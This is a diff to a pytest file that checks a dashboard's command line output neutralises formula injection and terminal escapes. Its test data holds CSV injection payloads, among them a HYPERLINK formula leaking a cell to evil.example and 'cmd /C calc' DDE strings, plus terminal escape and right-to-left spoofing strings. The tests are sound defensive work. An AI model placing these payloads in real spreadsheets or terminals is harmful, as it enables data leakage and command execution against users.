@@ -1,12 +1,19 @@
 """The command line: formats, exit codes and messages, run as a user runs it."""
 
+import csv
+import io
 import json
 import os
 import subprocess
 import sys
+from datetime import datetime
 
 import pytest
 
+from dashboard.core.control_chars import ACTING
+from dashboard.services.database import open_store
+from dashboard.store import audit
+from dashboard.store import comments as store_comments
 from tests.files import csv_bytes
 
 
@@ -231,3 +238,60 @@ def test_without_accounts_the_shell_user_acts_as_administrator(empty_ws, tmp_pat
     assert add_user(empty_ws, "fgw", "uploader", "市发展改革委").returncode == 0
     refused = run(empty_ws, "ingest", str(good))  # accounts exist now: rules apply
     assert refused.returncode == 1 and refused.stderr.startswith("error: no account 'cli'")
+
+
+HOSTILE = {
+    "link": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "escape": "王\x1b]0;pwned\x07\x1b[2J\x1b[31m红\u202etxt.exe\x9b31m",
+}
+
+
+def test_csv_and_tables_from_the_command_line_are_inert(sample_ws):
+    """Comments and failed-login names reach `progress` and `audit` output: formulas are
+    neutralised as in the page exports, terminal escapes are written out, not acted on."""
+    with open_store(sample_ws) as con:
+        store_comments.add_comment(
+            con,
+            entity="郑州市",
+            year=2026,
+            target_id="trade_quality",
+            month=10,
+            reason=HOSTILE["link"],
+            measures=HOSTILE["minus"],
+            status="on_track",
+            user="u",
+            at=datetime(2026, 11, 20),
+        )
+        for name in HOSTILE.values():
+            audit.record(con, name, "login", "failed", at=datetime(2026, 11, 20))
+    progress = run(sample_ws, "progress", "--format", "csv", "--as-of", "2026-10")
+    row = next(
+        r for r in csv.DictReader(io.StringIO(progress.stdout)) if r["id"] == "trade_quality"
+    )
+    assert (row["reason"], row["measures"]) == ("'" + HOSTILE["link"], "'" + HOSTILE["minus"])
+    assert row["explanation_zh"] == "'" + HOSTILE["link"]  # a judged target's comment
+    audit_csv = run(sample_ws, "audit", "--format", "csv").stdout
+    names = [r["user_name"] for r in csv.DictReader(io.StringIO(audit_csv))][-4:]
+    assert names == [
+        "'" + HOSTILE["link"],
+        "'" + HOSTILE["at"],
+        "'" + HOSTILE["minus"],
+        "王\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m红\\u202etxt.exe\\x9b31m",
+    ]
+    table = run(sample_ws, "audit").stdout
+    assert "王\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m红\\u202etxt.exe\\x9b31m" in table
+    as_json = run(sample_ws, "audit", "--format", "json").stdout
+    assert json.loads(as_json)[-1]["user_name"] == HOSTILE["escape"]  # the value, unchanged
+    for out in (progress.stdout, audit_csv, table, as_json):
+        assert not ACTING.search(out)
+
+
+def test_file_names_printed_by_ingest_are_inert(empty_ws, tmp_path):
+    path = tmp_path / "a\x1b[31mb.csv"
+    path.write_bytes(csv_bytes([["指标", "时期", "数值"], ["充电桩\u202e", "2026-10", "1"]]))
+    out = run(empty_ws, "ingest", str(path), "--dry-run", "--admin-override")
+    assert out.returncode == 1
+    assert out.stdout.startswith("a\\x1b[31mb.csv:2:A: unknown indicator '充电桩\\u202e'")
+    assert not ACTING.search(out.stdout + out.stderr)
